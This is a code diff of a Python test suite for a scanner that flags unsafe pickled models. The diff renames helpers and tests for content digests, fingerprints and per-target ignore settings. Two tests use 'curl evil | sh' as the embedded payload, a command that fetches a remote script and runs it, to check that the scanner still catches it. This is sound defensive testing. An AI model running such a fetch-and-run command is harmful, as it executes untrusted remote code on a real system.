@@ -92,7 +92,7 @@ def test_a_file_of_too_many_bytes_is_not_accepted(statecli, folder, monkeypatch)
     assert statecli(*PICKLES, "--baseline", "b.json").code == 1
 
 
-def package(path, *names):
+def write_package(path, *names):
     """Write a torch.package with a harmful and a harmless module of the given names."""
     sources = ("import os\nos.getcwd()\nclass C: pass\n", "class C: pass\n")
     with PackageExporter(path) as exporter:
@@ -101,20 +101,20 @@ def package(path, *names):
         exporter.save_pickle("m", "m.pkl", {"a": 1})
 
 
-def digest_of(path, name):
+def find_digest(path, name):
     """Return the content digest of the finding about a file in an archive."""
     return next(pickle.digest for pickle in scan.scan_pickles(path) if pickle.where.endswith(name))
 
 
-def test_modules_of_a_package_that_exchange_their_names_are_another_content(folder):
+def test_swapped_module_names_change_the_digest_of_a_package(folder):
     """After the exchange, a module that was never imported runs under the name of the imported module."""
     (folder / "b").mkdir()
-    package("a.pt", "unused", "used")
-    package("b/a.pt", "used", "unused")
-    assert digest_of("a.pt", ".py") != digest_of("b/a.pt", ".py")
+    write_package("a.pt", "unused", "used")
+    write_package("b/a.pt", "used", "unused")
+    assert find_digest("a.pt", ".py") != find_digest("b/a.pt", ".py")
 
 
-def test_files_of_a_compiled_model_that_exchange_their_names_are_another_content(folder):
+def test_swapped_file_names_change_the_digest_of_a_compiled_model(folder):
     """The loader opens the library by name."""
     digests = set()
     for names in (("x.so", "y.so"), ("y.so", "x.so")):
@@ -122,7 +122,7 @@ def test_files_of_a_compiled_model_that_exchange_their_names_are_another_content
             archive.writestr("a/archive_format", "pt2")
             for name, data in zip(names, (b"1", b"2"), strict=True):
                 archive.writestr(f"a/data/aotinductor/model/{name}", b"\x7fELF" + data)
-        digests.add(digest_of("a.pt2", names[0]))
+        digests.add(find_digest("a.pt2", names[0]))
     assert len(digests) == 2
 
 
@@ -199,7 +199,7 @@ def test_more_nan_than_were_accepted_fail(statecli, folder):
     assert fail_with_other_content(statecli, write, [math.nan, 1.0, 2.0], [math.nan, math.nan, 2.0], audit)
 
 
-def test_the_fingerprint_of_another_payload_is_another(statecli, folder):
+def test_another_payload_gets_another_fingerprint(statecli, folder):
     """A finding that was dismissed in code scanning does not hide the next finding."""
     prints = set()
     for command in ("echo", "curl evil | sh"):
@@ -222,7 +222,7 @@ def test_a_baseline_that_accepts_by_name_is_refused(statecli, folder):
     assert "write a new baseline with --write-baseline" in result.err
 
 
-def ignore(*contents):
+def write_ignore_settings(*contents):
     listed = f"contents = {json.dumps(contents)}\n" if contents else ""
     Path("statecli.toml").write_text(f'[per-target-ignore."*.pt"]\nrules = ["pickles"]\nreason = "known"\n{listed}')
 
@@ -231,7 +231,7 @@ def test_per_target_ignore_accepts_a_payload_only_by_its_content(statecli, folde
     """A name alone accepts nothing; a note gives the digest to list."""
     Path(".git").mkdir()
     save("echo hello")
-    ignore()
+    write_ignore_settings()
     result = statecli(*PICKLES, "-f", "json")
     (content,) = {finding["content"] for finding in result.json["findings"] if "content" in finding}
     assert result.code == 1
@@ -239,7 +239,7 @@ def test_per_target_ignore_accepts_a_payload_only_by_its_content(statecli, folde
         f'`contents` does not list the digest of the checked bytes, so unsafe-global is reported: "{content}"'
         in result.err
     )
-    ignore(content)
+    write_ignore_settings(content)
     assert statecli(*PICKLES).code == 0
     save("curl evil | sh")
     assert statecli(*PICKLES).code == 1
